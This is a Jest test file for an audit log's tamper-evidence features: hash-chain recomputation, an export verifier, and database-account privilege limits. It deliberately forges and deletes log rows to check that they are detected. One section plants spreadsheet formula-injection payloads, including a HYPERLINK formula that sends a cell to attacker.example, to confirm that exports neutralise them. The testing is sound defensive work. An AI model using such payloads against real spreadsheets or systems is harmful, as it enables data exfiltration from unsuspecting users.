import { createHash } from 'node:crypto';
import { Connection } from 'mysql2/promise';
import { codes, startApi, TestApi } from '../support/api';
import { DEMO_PASSWORD } from '../support/db';
import { closeDb, customerId, ok, sql } from '../support/fixtures';
import {
  APP_DB_PASSWORD, APP_DB_USER, connectAsApp, EXPORT, GENESIS_HASH, gapless, head, INTEGRITY, parseCsv, recomputeChain,
  runVerifier, STORED_COLUMNS, testDatabaseName, traced, urlAs,
} from '../support/audit';

/**
 * Tamper evidence (DESIGN §4): auditIntegrity recomputes the chain and names the first altered or
 * missing seq; scripts/verify-audit.mjs checks an export outside the system; the application's own
 * database account can add to the log and read it, never change or remove an entry, and the API
 * runs on that account.
 */

const CUSTOMER = (fields: string) => `query($id: ID!) { customer(id: $id) { ${fields} } }`;
const UPDATE_CUSTOMER = 'mutation($input: UpdateCustomerInput!) { updateCustomer(input: $input) { id version } }';
const LOGIN = 'mutation($u: String!, $p: String!) { login(input: {username: $u, password: $p}) { token } }';
const BACKUP = `audit_event_backup_${process.pid}`;

/** CSV text from records (null: an unquoted empty cell; '' a quoted empty string). */
function toCsv(records: Array<Array<string | null>>): string {
  const cell = (v: string | null) => (v === null ? '' : v === '' || /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return `${records.map((r) => r.map(cell).join(',')).join('\r\n')}\r\n`;
}

/** The seqs the verifier reports as broken, in order. */
const brokenSeqs = (stdout: string): number[] => [...stdout.matchAll(/^BROKEN seq (\d+)/gm)].map((m) => Number(m[1]));


/**
 * The canonical values of a row: the stored columns, then targets_hash when it or client_request_id
 * is there, then client_request_id when the row has one.
 */
const withTargetsHash = (values: unknown[], targetsHash: string | null | undefined, clientRequestId: string | null | undefined): unknown[] => {
  const present = (v: string | null | undefined) => v !== null && v !== undefined;
  if (!present(targetsHash) && !present(clientRequestId)) return values;
  return present(clientRequestId) ? [...values, targetsHash ?? null, clientRequestId] : [...values, targetsHash];
};

describe('audit integrity', () => {
  let api: TestApi;
  let auditor: string;
  let c1: string;

  const integrity = async () => ok(await api.gql(auditor, INTEGRITY)).auditIntegrity;

  /** A full export (every event, in seq order) and the hash of its own EXPORT event, the chain head when it was taken. */
  async function exportAll(): Promise<{ csv: string; rows: number; headHash: string; headSeq: number }> {
    const t = await traced(api, auditor, EXPORT, { limit: 100000 });
    const { csv, rows } = ok(t.r).auditExport;
    const exportEvent = t.events.find((e) => e.action === 'EXPORT')!;
    return { csv, rows, headHash: exportEvent.hash, headSeq: exportEvent.seq };
  }

  /** Runs `body` with row `seq` changed by `assignment` directly in the database (as root), restoring it afterwards. */
  async function withTampered(seq: number, assignment: string, params: unknown[], body: () => Promise<void>): Promise<void> {
    await sql(`DROP TABLE IF EXISTS ${BACKUP}`);
    await sql(`CREATE TABLE ${BACKUP} AS SELECT * FROM audit_event WHERE seq = ?`, [seq]);
    try {
      await sql(`UPDATE audit_event SET ${assignment} WHERE seq = ?`, [...params, seq]);
      await body();
    } finally {
      await sql('DELETE FROM audit_event WHERE seq = ?', [seq]);
      await sql(`INSERT INTO audit_event SELECT * FROM ${BACKUP}`);
      await sql(`DROP TABLE ${BACKUP}`);
    }
  }

  /** Runs `body` with row `seq` deleted directly in the database, putting it back afterwards. */
  async function withDeleted(seq: number, body: () => Promise<void>): Promise<void> {
    await sql(`DROP TABLE IF EXISTS ${BACKUP}`);
    await sql(`CREATE TABLE ${BACKUP} AS SELECT * FROM audit_event WHERE seq = ?`, [seq]);
    try {
      await sql('DELETE FROM audit_event WHERE seq = ?', [seq]);
      await body();
    } finally {
      await sql(`INSERT INTO audit_event SELECT * FROM ${BACKUP}`);
      await sql(`DROP TABLE ${BACKUP}`);
    }
  }

  beforeAll(async () => {
    api = await startApi();
    auditor = await api.token('auditor');
    c1 = await customerId('C000001');
    // Some history with every kind of column: reads, a write, a denial, a failed sign-in.
    const gm = await api.token('gm');
    const am1 = await api.token('am1');
    ok(await api.gql(gm, CUSTOMER('id annualRevenue taxId'), { id: c1 }));
    // A READ of several records (one event, several target rows), whatever other suites ran first.
    ok(await api.gql(gm, '{ customers(first: 3) { edges { node { id annualRevenue } } } }'));
    const [row] = await sql('SELECT version FROM customer WHERE id = ?', [c1]);
    ok(await api.gql(am1, UPDATE_CUSTOMER, { input: { id: c1, version: row.version, notes: 'integrity "suite", line 1\nline 2' } }));
    await api.gql(am1, CUSTOMER('id bankAccount'), { id: c1 });
    await api.gql(null, LOGIN, { u: 'am1', p: 'Wrong-password-0' });
  });
  afterAll(async () => {
    await sql(`DROP TABLE IF EXISTS ${BACKUP}`);
    await api.close();
    await closeDb();
  });

  describe('auditIntegrity', () => {
    it('is ok on a clean chain: every event checked, the head as stored', async () => {
      const r = await integrity();
      const h = await head();
      expect(r).toMatchObject({ ok: true, firstBrokenSeq: null });
      expect(r.checked).toBe(r.headSeq);
      // The call itself appended its AUDIT_VIEW: the reported head is the one stored when it checked.
      expect(r.headSeq).toBeLessThanOrEqual(h.seq);
      const [{ hash }] = await sql('SELECT hash FROM audit_event WHERE seq = ?', [r.headSeq]);
      expect(r.headHash).toBe(hash);
      expect(await recomputeChain()).toMatchObject({ firstBroken: null });
    });

    it.each([
      ['detail', 'detail = ?', ['{"forged":true}']],
      ['actor', "actor_username = 'someone-else'", []],
      ['time', 'at = at + INTERVAL 1 SECOND', []],
      ['the client address', "ip = '10.0.0.1'", []],
      ['the stored hash', "hash = REPEAT('a', 64)", []],
      ['the back link', "prev_hash = REPEAT('b', 64)", []],
    ])('altering %s of one row makes it report that seq', async (_what, assignment, params) => {
      const { seq: last } = await head();
      const k = Math.max(2, Math.floor(last / 2));
      await withTampered(k, assignment, params, async () => {
        expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: k });
        expect((await recomputeChain()).firstBroken).toBe(k);
      });
      expect(await integrity()).toMatchObject({ ok: true, firstBrokenSeq: null });
    });

    it('an altered row whose hash was recomputed to match breaks the next link', async () => {
      const { seq: last } = await head();
      const k = Math.max(2, Math.floor(last / 3));
      const [row] = await sql(`SELECT ${STORED_COLUMNS.join(', ')}, targets_hash, client_request_id, DATE_FORMAT(at, '%Y-%m-%d %H:%i:%s.%f') AS at_text, prev_hash FROM audit_event WHERE seq = ?`, [k]);
      const forged: Record<string, any> = { ...row, detail: '{"forged":true}' };
      const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(forged.seq) : c === 'at' ? String(row.at_text).slice(0, 23) : forged[c] === null ? null : String(forged[c]))), row.targets_hash, row.client_request_id);
      const hash = createHash('sha256').update(row.prev_hash).update(JSON.stringify(values)).digest('hex');
      await withTampered(k, 'detail = ?, hash = ?', [forged.detail, hash], async () => {
        expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: k + 1 });
      });
    });

    it('deleting a row in the middle reports its seq', async () => {
      const { seq: last } = await head();
      const k = Math.max(2, Math.floor(last / 2) + 1);
      await withDeleted(k, async () => {
        expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: k });
        expect((await recomputeChain()).firstBroken).toBe(k);
      });
      expect(await integrity()).toMatchObject({ ok: true });
    });

    it('the entities an event touched are chained too: a target row removed, added or altered reports the event', async () => {
      // A READ of several customers: one event, a target row per customer, covered by its targets_hash.
      const [{ seq: k, n }] = await sql(
        "SELECT t.seq, COUNT(*) AS n FROM audit_target t JOIN audit_event e ON e.seq = t.seq WHERE e.targets_hash IS NOT NULL AND e.action = 'READ' GROUP BY t.seq HAVING n > 1 ORDER BY t.seq LIMIT 1");
      expect(Number(n)).toBeGreaterThan(1);
      const seq = Number(k);
      const [victim] = await sql('SELECT id, entity_type, entity_id, fields FROM audit_target WHERE seq = ? ORDER BY id LIMIT 1', [seq]);
      const tamper = async (change: string, params: unknown[], undo: string, undoParams: unknown[]) => {
        await sql(change, params);
        try {
          expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: seq });
          expect((await recomputeChain()).firstBroken).toBe(seq);
        } finally {
          await sql(undo, undoParams);
        }
      };
      // "Who read customer X" loses a reader …
      await tamper('DELETE FROM audit_target WHERE id = ?', [victim.id],
        'INSERT INTO audit_target (id, seq, entity_type, entity_id, fields) VALUES (?, ?, ?, ?, ?)', [victim.id, seq, victim.entity_type, victim.entity_id, victim.fields]);
      // … is pointed at another customer …
      await tamper("UPDATE audit_target SET entity_id = '999999' WHERE id = ?", [victim.id], 'UPDATE audit_target SET entity_id = ? WHERE id = ?', [victim.entity_id, victim.id]);
      // … or gains one.
      await tamper("INSERT INTO audit_target (seq, entity_type, entity_id, fields) VALUES (?, 'Customer', '999999', NULL)", [seq],
        "DELETE FROM audit_target WHERE seq = ? AND entity_id = '999999'", [seq]);
      expect(await integrity()).toMatchObject({ ok: true });
    });

    it('deleting the first row reports seq 1; deleting the newest reports its seq', async () => {
      await withDeleted(1, async () => {
        expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: 1 });
      });
      const { seq: last } = await head();
      await withDeleted(last, async () => {
        expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: last });
      });
      expect(await integrity()).toMatchObject({ ok: true });
    });
  });

  describe('scripts/verify-audit.mjs on an export', () => {
    it('verifies a full export (contiguous, anchored at a known chain head) and names the seq of a tampered copy', async () => {
      const earlier = await integrity();
      const { csv, rows, headHash, headSeq } = await exportAll();
      const records = parseCsv(csv);
      expect(records).toHaveLength(rows + 1);
      expect(Number(records[rows][0])).toBe(headSeq);

      const clean = runVerifier(csv, ['--contiguous', '--head', headHash]);
      expect({ status: clean.status, broken: brokenSeqs(clean.stdout) }).toEqual({ status: 0, broken: [] });
      // A head noted earlier (auditIntegrity before the export) anchors it as well; a made-up one does not.
      expect(runVerifier(csv, ['--contiguous', '--head', earlier.headHash]).status).toBe(0);
      expect(runVerifier(csv, ['--head', 'c'.repeat(64)]).status).toBe(1);

      const header = records[0];
      const col = (name: string) => header.indexOf(name);
      const k = Math.floor(rows / 2);
      const copy = (edit: (rs: Array<Array<string | null>>) => void) => {
        const rs = records.map((r) => [...r]);
        edit(rs);
        return toCsv(rs);
      };
      const seqOfRow = (i: number) => Number(records[i][0]);

      // One cell changed.
      const edited = runVerifier(copy((rs) => { rs[k][col('detail')] = '{"forged":true}'; }));
      expect(edited.status).toBe(1);
      expect(brokenSeqs(edited.stdout)[0]).toBe(seqOfRow(k));

      // The entities an event touched, edited in the export: its targets no longer give its targets_hash.
      const withTargets = records.findIndex((r, i) => i > 0 && (r[col('targets')] ?? '[]') !== '[]');
      expect(withTargets).toBeGreaterThan(0);
      const retargeted = runVerifier(copy((rs) => { rs[withTargets][col('targets')] = '[]'; }));
      expect(retargeted.status).toBe(1);
      expect(retargeted.stdout).toContain(`seq ${seqOfRow(withTargets)}`);
      expect(retargeted.stdout).toContain('targets_hash');
      // Dropping the targets column (keeping targets_hash) is not a verifiable export.
      expect(runVerifier(copy((rs) => { for (const r of rs) r.splice(col('targets'), 1); })).status).toBe(2);

      // NULL turned into an empty string (the CSV tells them apart).
      const nullRow = records.findIndex((r, i) => i > 0 && r[col('actor_token_id')] === null);
      const emptied = runVerifier(copy((rs) => { rs[nullRow][col('actor_token_id')] = ''; }));
      expect(emptied.status).toBe(1);
      expect(brokenSeqs(emptied.stdout)[0]).toBe(seqOfRow(nullRow));

      // A row left out: a gap in a contiguous export.
      const gap = runVerifier(copy((rs) => { rs.splice(k, 1); }), ['--contiguous']);
      expect(gap.status).toBe(1);
      expect(brokenSeqs(gap.stdout)[0]).toBe(seqOfRow(k + 1));

      // The newest rows cut off: only the known head tells.
      const cut = copy((rs) => { rs.splice(rs.length - 2, 2); });
      expect(runVerifier(cut, ['--contiguous']).status).toBe(0);
      expect(runVerifier(cut, ['--contiguous', '--head', headHash]).status).toBe(1);

      // A row whose hash was recomputed by the forger: the next row's link breaks.
      const relinked = runVerifier(copy((rs) => {
        const r = rs[k];
        r[col('detail')] = '{"forged":true}';
        const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(r[col(c)]) : r[col(c)])), r[col('targets_hash')], r[col('client_request_id')]);
        r[col('hash')] = createHash('sha256').update(r[col('prev_hash')]!).update(JSON.stringify(values)).digest('hex');
      }));
      expect(relinked.status).toBe(1);
      expect(brokenSeqs(relinked.stdout)).toEqual([seqOfRow(k + 1)]);

      // A forger who alters row k and recomputes every later hash: consistent in itself; only the known head exposes it.
      const rewritten = copy((rs) => {
        rs[k][col('detail')] = '{"forged":true}';
        let prev = rs[k][col('prev_hash')]!;
        for (let i = k; i < rs.length; i++) {
          rs[i][col('prev_hash')] = prev;
          const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(rs[i][col(c)]) : rs[i][col(c)])), rs[i][col('targets_hash')], rs[i][col('client_request_id')]);
          prev = createHash('sha256').update(prev).update(JSON.stringify(values)).digest('hex');
          rs[i][col('hash')] = prev;
        }
      });
      expect(runVerifier(rewritten, ['--contiguous']).status).toBe(0);
      expect(runVerifier(rewritten, ['--contiguous', '--head', headHash]).status).toBe(1);
      expect(runVerifier(rewritten, ['--contiguous', '--head', earlier.headHash]).status).toBe(1);

      // Two rows swapped.
      const swapped = runVerifier(copy((rs) => { [rs[k], rs[k + 1]] = [rs[k + 1], rs[k]]; }));
      expect(swapped.status).toBe(1);
    });

    it('an export taken after a row was altered in the database does not verify, at that seq', async () => {
      const k = Math.max(2, Math.floor((await head()).seq / 2));
      await withTampered(k, "actor_username = 'nobody'", [], async () => {
        const { csv } = await exportAll();
        const r = runVerifier(csv, ['--contiguous']);
        expect(r.status).toBe(1);
        expect(brokenSeqs(r.stdout)[0]).toBe(k);
      });
    });

    it('a filtered export verifies row by row; --contiguous refuses its gaps', async () => {
      const t = await traced(api, auditor, EXPORT, { where: { action: ['LOGIN', 'UPDATE', 'DENY'] }, limit: 100000 });
      const { csv, rows } = ok(t.r).auditExport;
      expect(rows).toBeGreaterThan(2);
      const actions = new Set(parseCsv(csv).slice(1).map((r) => r[9]));
      expect([...actions].every((a) => ['LOGIN', 'UPDATE', 'DENY'].includes(a!))).toBe(true);
      expect(runVerifier(csv).status).toBe(0);
      expect(runVerifier(csv, ['--contiguous']).status).toBe(1);
    });

    it('rebuilds the canonical form exactly: an empty string and NULL hash differently; quotes, commas and newlines survive', () => {
      // A two-event chain computed here independently, with awkward cells.
      const base: Record<string, string | number | null> = Object.fromEntries(STORED_COLUMNS.map((c) => [c, null]));
      const events: Array<Record<string, string | number | null>> = [
        { ...base, seq: 1, at: '2026-11-24 06:00:00.000', action: 'LOGIN_FAILED', outcome: 'DENIED', actor_username: 'a,b "c"', user_agent: '' },
        { ...base, seq: 2, at: '2026-11-24 06:00:00.001', action: 'UPDATE', outcome: 'SUCCESS', changes: '{"notes":{"after":"x\\ny","before":"多行\r\n文本"}}' },
      ];
      let prev = GENESIS_HASH;
      const rows = events.map((e) => {
        const values = STORED_COLUMNS.map((c) => (c === 'seq' ? Number(e[c]) : e[c] === null ? null : String(e[c])));
        const hash = createHash('sha256').update(prev).update(JSON.stringify(values)).digest('hex');
        const row = [...values.map((v) => (v === null ? null : String(v))), prev, hash];
        prev = hash;
        return row;
      });
      const header = [...STORED_COLUMNS, 'prev_hash', 'hash'];
      const good = runVerifier(toCsv([header, ...rows]), ['--contiguous', '--head', prev]);
      expect({ status: good.status, stderr: good.stderr }).toEqual({ status: 0, stderr: '' });
      const ua = header.indexOf('user_agent');
      const asNull = rows.map((r) => [...r]);
      asNull[0][ua] = null;
      const bad = runVerifier(toCsv([header, ...asNull]));
      expect(bad.status).toBe(1);
      expect(brokenSeqs(bad.stdout)).toEqual([1]);
      expect(runVerifier('not,a,valid\r\nexport\r\n').status).toBe(2);
    });
  });

  describe('what anyone can plant: formula cells and the client\'s request id', () => {
    const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open me")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', "'=quoted"];

    it('an export neutralises every cell a spreadsheet would run, and the verifier still verifies it', async () => {
      for (const [i, name] of FORMULAS.entries()) {
        await api.gql(null, LOGIN, { u: name, p: 'Wrong-password-0' }, { 'user-agent': FORMULAS[(i + 1) % FORMULAS.length], 'x-request-id': `@req-${i}` });
      }
      const t = await traced(api, auditor, EXPORT, { where: { action: ['LOGIN_FAILED'] }, limit: 100000 });
      const { csv } = ok(t.r).auditExport;
      const records = parseCsv(csv);
      const header = records[0];
      const cells = records.slice(1).flat().filter((c): c is string => c !== null);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      const names = records.slice(1).map((r) => r[header.indexOf('actor_username')]);
      for (const name of FORMULAS) expect(names).toContain(`'${name}`);
      expect(records.slice(1).map((r) => r[header.indexOf('client_request_id')])).toContain("'@req-0");
      const verified = runVerifier(csv);
      expect({ status: verified.status, out: verified.stdout }).toMatchObject({ status: 0 });
      // The stored values are the originals: the apostrophe exists only in the export.
      const [stored] = await sql("SELECT actor_username, client_request_id FROM audit_event WHERE action = 'LOGIN_FAILED' AND actor_username = ?", [FORMULAS[0]]);
      expect(stored).toEqual({ actor_username: FORMULAS[0], client_request_id: '@req-0' });
    });

    it('keeps the client\'s x-request-id apart, printable and short only; the request id is the server\'s', async () => {
      const sent = 'client-label-42';
      const t = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': sent });
      const [e] = t.events;
      expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
      expect(e.clientRequestId).toBe(sent);
      const long = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': 'x'.repeat(65) });
      expect(long.events[0].clientRequestId).toBeNull();
      const unicode = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': 'caf\u00e9' });
      expect(unicode.events[0].clientRequestId).toBeNull();
    });

    it('the client request id is chained: changed, nulled, or swapped with targets_hash, the event breaks', async () => {
      const t = await traced(api, null, LOGIN, { u: 'nobody-chained', p: 'Wrong-password-2' }, { 'x-request-id': 'chained-id' });
      const seq = t.events[0].seq;
      const r = await api.gql(null, LOGIN, { u: 'nobody-chained', p: 'Wrong-password-2' });
      const [plain] = await sql('SELECT seq, client_request_id FROM audit_event WHERE request_id = ?', [r.headers.get('x-request-id')]);
      expect(plain.client_request_id).toBeNull();
      plain.seq = Number(plain.seq);
      expect(await integrity()).toMatchObject({ ok: true });
      for (const [assignment, at] of [
        ["client_request_id = 'other-id'", seq], ['client_request_id = NULL', seq],
        ['client_request_id = targets_hash, targets_hash = NULL', plain.seq],
      ] as const) {
        await withTampered(at, assignment, [], async () => {
          expect({ assignment, ...(await integrity()) }).toMatchObject({ assignment, ok: false, firstBrokenSeq: at });
        });
      }
    });
  });

  describe('the application database account', () => {
    let app: Connection;
    beforeAll(async () => { app = await connectAsApp(); });
    afterAll(async () => { await app?.end(); });

    const privilegeError = { errno: 1142, code: 'ER_TABLEACCESS_DENIED_ERROR' };

    it('the migration granted it INSERT and SELECT on the audit tables of this database, nothing more', async () => {
      const db = testDatabaseName();
      for (const host of ['localhost', '127.0.0.1', '%']) {
        const grantee = `'${APP_DB_USER}'@'${host}'`;
        const rows = await sql('SELECT table_name AS t, privilege_type AS p FROM information_schema.table_privileges WHERE grantee = ? AND table_schema = ? AND table_name LIKE ?',
          [grantee, db, 'audit%']);
        const by = (t: string) => rows.filter((r) => r.t === t).map((r) => r.p).sort();
        expect({ host, event: by('audit_event'), target: by('audit_target'), head: by('audit_head') })
          .toEqual({ host, event: ['INSERT', 'SELECT'], target: ['INSERT', 'SELECT'], head: ['SELECT', 'UPDATE'] });
        expect(await sql('SELECT privilege_type FROM information_schema.schema_privileges WHERE grantee = ? AND table_schema = ?', [grantee, db])).toEqual([]);
        expect((await sql('SELECT privilege_type AS p FROM information_schema.user_privileges WHERE grantee = ?', [grantee])).map((r) => r.p)).toEqual(['USAGE']);
      }
    });

    it.each(['audit_event', 'audit_target'])('UPDATE, DELETE, TRUNCATE, ALTER and DROP on %s fail with a privilege error', async (table) => {
      const [before] = await sql(`SELECT COUNT(*) AS n FROM ${table}`);
      const column = table === 'audit_event' ? 'detail' : 'fields';
      await expect(app.query(`UPDATE ${table} SET ${column} = '{"forged":true}' WHERE seq = 1`)).rejects.toMatchObject(privilegeError);
      await expect(app.query(`DELETE FROM ${table} WHERE seq = 1`)).rejects.toMatchObject(privilegeError);
      await expect(app.query(`DELETE FROM ${table}`)).rejects.toMatchObject(privilegeError);
      await expect(app.query(`TRUNCATE TABLE ${table}`)).rejects.toMatchObject({ errno: 1142 });
      await expect(app.query(`ALTER TABLE ${table} ADD COLUMN x INT`)).rejects.toMatchObject({ errno: 1142 });
      await expect(app.query(`DROP TABLE ${table}`)).rejects.toMatchObject({ errno: 1142 });
      await expect(app.query(`RENAME TABLE ${table} TO ${table}_gone`)).rejects.toMatchObject({ errno: 1142 });
      await expect(app.query(`REPLACE INTO ${table} SELECT * FROM ${table} WHERE seq = 1`)).rejects.toMatchObject({ errno: 1142 });
      expect(await sql(`SELECT COUNT(*) AS n FROM ${table}`)).toEqual([before]);
      expect(await gapless()).toMatchObject({ min: 1 });
      expect(await recomputeChain()).toMatchObject({ firstBroken: null });
    });

    it('INSERT and SELECT on the audit tables work (inserted in a transaction that is rolled back)', async () => {
      const [rows] = await app.query('SELECT seq, hash FROM audit_event ORDER BY seq DESC LIMIT 1');
      expect((rows as Array<{ hash: string }>)[0].hash).toMatch(/^[0-9a-f]{64}$/);
      await app.beginTransaction();
      try {
        const far = 9_000_000_000;
        await app.query(`INSERT INTO audit_event (seq, at, action, outcome, prev_hash, hash) VALUES (?, NOW(3), 'READ', 'SUCCESS', REPEAT('0', 64), REPEAT('0', 64))`, [far]);
        await app.query("INSERT INTO audit_target (seq, entity_type, entity_id) VALUES (?, 'Customer', '1')", [far]);
        const [mine] = await app.query('SELECT COUNT(*) AS n FROM audit_event WHERE seq = ?', [far]);
        expect(Number((mine as Array<{ n: number }>)[0].n)).toBe(1);
      } finally {
        await app.rollback();
      }
      expect(await sql('SELECT seq FROM audit_event WHERE seq >= 9000000000')).toEqual([]);
    });

    it('the API runs on it: sign-in, a write and an audited read succeed and are logged; its own connection cannot alter the log', async () => {
      const appApi = await startApi({ config: { databaseUrl: urlAs(APP_DB_USER, APP_DB_PASSWORD) } });
      try {
        const [{ user }] = await appApi.server.ds.query('SELECT CURRENT_USER() AS user');
        expect(user).toMatch(new RegExp(`^${APP_DB_USER}@`));
        const login = await traced(appApi, null, LOGIN, { u: 'am1', p: DEMO_PASSWORD });
        const token: string = ok(login.r).login.token;
        expect(login.events.map((e) => e.action)).toEqual(['LOGIN']);

        const [row] = await sql('SELECT version FROM customer WHERE id = ?', [c1]);
        const write = await traced(appApi, token, UPDATE_CUSTOMER, { input: { id: c1, version: row.version, phone: '021-77770000' } });
        expect(ok(write.r).updateCustomer.version).toBe(row.version + 1);
        expect(write.events.map((e) => [e.action, e.entityId, e.changes?.phone?.after])).toEqual([['UPDATE', c1, '021-77770000']]);

        const read = await traced(appApi, await appApi.token('gm'), CUSTOMER('id annualRevenue bankName'), { id: c1 });
        expect(ok(read.r).customer.annualRevenue).not.toBeNull();
        expect(read.events.map((e) => e.action)).toEqual(['READ']);

        const denied = await traced(appApi, token, CUSTOMER('id bankAccount'), { id: c1 });
        expect(codes(denied.r)).toEqual(['FIELD_CLASSIFIED']);
        expect(denied.events.map((e) => e.action)).toEqual(['DENY']);

        const appAuditor = await appApi.token('auditor');
        expect(ok(await appApi.gql(appAuditor, INTEGRITY)).auditIntegrity).toMatchObject({ ok: true, firstBrokenSeq: null });
        expect(ok(await appApi.gql(appAuditor, EXPORT, { limit: 5 })).auditExport.rows).toBe(5);

        await expect(appApi.server.ds.query("UPDATE audit_event SET detail = '{}' WHERE seq = 1")).rejects.toMatchObject({ errno: 1142 });
        await expect(appApi.server.ds.query('DELETE FROM audit_event WHERE seq = 1')).rejects.toMatchObject({ errno: 1142 });
      } finally {
        await appApi.close();
      }
      expect(await recomputeChain()).toMatchObject({ firstBroken: null });
    });
  });

  it('two API servers appending at once (as two processes would) extend one gapless chain', async () => {
    const second = await startApi();
    try {
      const am1 = await api.token('am1');
      const gm = [await api.token('gm'), await second.token('gm')];
      const id = await customerId('C000007');
      const h0 = await head();
      let [{ version }] = await sql('SELECT version FROM customer WHERE id = ?', [id]);
      const writes = async () => {
        for (let i = 0; i < 10; i++) {
          const r = await (i % 2 ? second : api).gql(am1, UPDATE_CUSTOMER, { input: { id, version, notes: `two servers ${i}` } });
          version = ok(r).updateCustomer.version;
        }
      };
      const reads = (k: number) => Promise.all(Array.from({ length: 20 }, (_, i) =>
        (i % 2 ? second : api).gql(gm[k], CUSTOMER('id annualRevenue'), { id: c1 }).then(ok)));
      await Promise.all([writes(), reads(0), reads(1)]);
      const g = await gapless();
      expect(g).toMatchObject({ min: 1, count: g.max, distinct: g.max, head: g.max });
      expect(g.max).toBeGreaterThanOrEqual(h0.seq + 10 + 40);
      expect(await recomputeChain()).toMatchObject({ firstBroken: null, checked: g.max });
      expect(await integrity()).toMatchObject({ ok: true });
    } finally {
      await second.close();
    }
  });
});
